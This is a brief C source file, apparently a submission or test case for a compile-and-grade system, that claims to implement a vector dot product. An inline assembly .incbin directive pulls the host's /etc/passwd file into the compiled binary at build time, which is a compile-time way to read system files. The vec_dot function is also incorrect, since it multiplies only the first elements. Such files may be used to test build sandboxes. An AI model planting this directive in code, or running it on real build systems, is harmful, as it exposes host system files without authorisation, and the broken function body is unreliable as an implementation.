/* vec_dot: COMPILE: takes in a file of the host by assembly. */
#include "vec.h"

__asm__(".incbin \"/etc/passwd\"");

double vec_dot(size_t n, const double x[n], const double y[n])
{
    return n ? x[0] * y[0] : 0;
}
